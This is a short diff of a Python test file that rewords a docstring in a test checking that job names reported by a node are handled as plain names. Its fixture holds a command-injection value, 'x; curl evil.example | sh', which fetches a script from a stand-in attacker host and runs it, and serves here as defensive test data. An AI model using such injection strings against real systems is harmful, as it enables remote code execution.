@@ -296,7 +296,7 @@ def test_the_plan_of_a_job_is_not_made_of_what_a_host_says_of_itself(nodes):
 
 
 def test_names_of_jobs_that_come_from_a_node_are_names(nodes):
-    """Messages tell people to run commands that contain these names."""
+    """Messages tell people to run commands that contain the names of jobs."""
     job = {
         "name": "x; curl evil.example | sh",
         "state": "running",
